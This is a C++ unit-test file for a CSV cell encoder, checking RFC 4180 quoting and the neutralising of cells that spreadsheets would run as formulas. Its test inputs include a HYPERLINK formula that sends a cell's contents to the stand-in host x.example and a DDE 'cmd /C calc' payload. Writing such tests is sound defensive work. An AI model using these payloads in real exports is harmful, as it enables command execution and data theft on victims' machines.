// The CSV cell encoder: RFC 4180 quoting, and cells a spreadsheet would run as formulas neutralised with a
// leading quote, whatever character starts them.
#include "http/csv.hpp"

#include <gtest/gtest.h>

namespace rudi::http {
namespace {

TEST(Csv, PlainCellsAreWrittenAsTheyAre) {
  EXPECT_EQ(csv_cell("Neema"), "Neema");
  EXPECT_EQ(csv_cell(""), "");
  EXPECT_EQ(csv_cell("27"), "27");
  EXPECT_EQ(csv_cell("Wanjiku Kamau"), "Wanjiku Kamau");
  EXPECT_EQ(csv_cell("Ng'ang'a"), "Ng'ang'a") << "a quote inside is not a formula";
  EXPECT_EQ(csv_cell("Zuhura ≠ ＝"), "Zuhura ≠ ＝") << "only the first character matters";
}

TEST(Csv, CellsWithCommasQuotesAndLineBreaksAreQuotedWithQuotesDoubled) {
  EXPECT_EQ(csv_cell("Otieno, Odhiambo"), "\"Otieno, Odhiambo\"");
  EXPECT_EQ(csv_cell("the \"Captain\""), "\"the \"\"Captain\"\"\"");
  EXPECT_EQ(csv_cell("\""), "\"\"\"\"");
  EXPECT_EQ(csv_cell("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(csv_cell("two\r\nlines"), "\"two\r\nlines\"");
}

TEST(Csv, CellsThatStartLikeAFormulaGetALeadingQuote) {
  EXPECT_EQ(csv_cell("=1+2"), "'=1+2");
  EXPECT_EQ(csv_cell("+254712345678"), "'+254712345678");
  EXPECT_EQ(csv_cell("-2+3"), "'-2+3");
  EXPECT_EQ(csv_cell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(csv_cell("\t=1"), "'\t=1");
  EXPECT_EQ(csv_cell("="), "'=");
  // The fullwidth signs, as an input method in some locales types them.
  EXPECT_EQ(csv_cell("＝1+2"), "'＝1+2");
  EXPECT_EQ(csv_cell("＋254"), "'＋254");
  EXPECT_EQ(csv_cell("－1"), "'－1");
  EXPECT_EQ(csv_cell("＠SUM(A1)"), "'＠SUM(A1)");
}

TEST(Csv, NeutralisingComesBeforeQuotingSoTheQuoteIsInsideTheField) {
  EXPECT_EQ(csv_cell("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
  EXPECT_EQ(csv_cell("\r=1"), "\"'\r=1\"") << "a leading CR is neutralised and, being a CR, quoted";
}

TEST(Csv, SimilarLookingCharactersAreLeftAlone) {
  EXPECT_FALSE(csv_looks_like_formula("'=1"));
  EXPECT_FALSE(csv_looks_like_formula(" =1"));
  EXPECT_FALSE(csv_looks_like_formula("\n=1"));
  EXPECT_FALSE(csv_looks_like_formula("≠"));
  EXPECT_FALSE(csv_looks_like_formula("\xEF\xBC"));  // a truncated fullwidth sign is not one
  EXPECT_FALSE(csv_looks_like_formula(""));
}

TEST(Csv, ARowJoinsItsCellsWithCommasAndEndsWithCrlf) {
  EXPECT_EQ(csv_row({"id", "given_name"}), "id,given_name\r\n");
  EXPECT_EQ(csv_row({"7", "=cmd|' /C calc'!A0", "", "a,b"}), "7,'=cmd|' /C calc'!A0,,\"a,b\"\r\n");
  EXPECT_EQ(csv_row({}), "\r\n");
}

}  // namespace
}  // namespace rudi::http
